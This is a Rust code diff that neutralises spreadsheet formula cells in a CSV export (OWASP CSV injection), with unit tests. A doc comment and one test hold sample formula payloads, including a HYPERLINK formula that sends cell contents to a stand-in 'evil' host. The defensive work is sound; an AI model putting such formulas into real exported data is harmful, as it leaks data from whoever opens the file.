@@ -17,7 +17,22 @@ const EXPORT_CHUNK: u32 = 500;
 
 const CSV_COLUMNS: &str = "id,queue,state,priority,attempts,key,idempotency_key,created_at,updated_at,due_at,finished_at,dead_reason,error_class,last_error,headers,payload\n";
 
+/// First characters that make a spreadsheet read a cell as a formula (`=`, `+`, `-`, `@`,
+/// and tab / carriage return, which some strip before looking). Error texts come from third
+/// parties, so a cell such as `=HYPERLINK("http://evil/?"&A1)` must not run (issue 5,
+/// defect 11, OWASP "CSV injection").
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Write one CSV cell: a cell that would start a formula gets a leading `'` (shown as text
+/// by spreadsheets, and visible: a reader sees the cell was neutralised); then RFC 4180 quoting.
 fn csv_field(out: &mut String, v: &str) {
+    let neutral;
+    let v = if v.starts_with(FORMULA_STARTS) {
+        neutral = format!("'{v}");
+        neutral.as_str()
+    } else {
+        v
+    };
     if v.contains([',', '"', '\n', '\r']) {
         out.push('"');
         out.push_str(&v.replace('"', "\"\""));
@@ -172,5 +187,26 @@ mod tests {
         let mut s = String::new();
         csv_field(&mut s, "plain");
         assert_eq!(s, "plain");
+    }
+
+    #[test]
+    fn csv_neutralises_formula_cells() {
+        for (cell, want) in [
+            ("=1+1", "'=1+1"),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "\"'\r=1\""),
+            (
+                "=HYPERLINK(\"http://evil\",\"x\")",
+                "\"'=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\"",
+            ),
+            ("a=1", "a=1"),
+        ] {
+            let mut s = String::new();
+            csv_field(&mut s, cell);
+            assert_eq!(s, want, "{cell:?}");
+        }
     }
 }
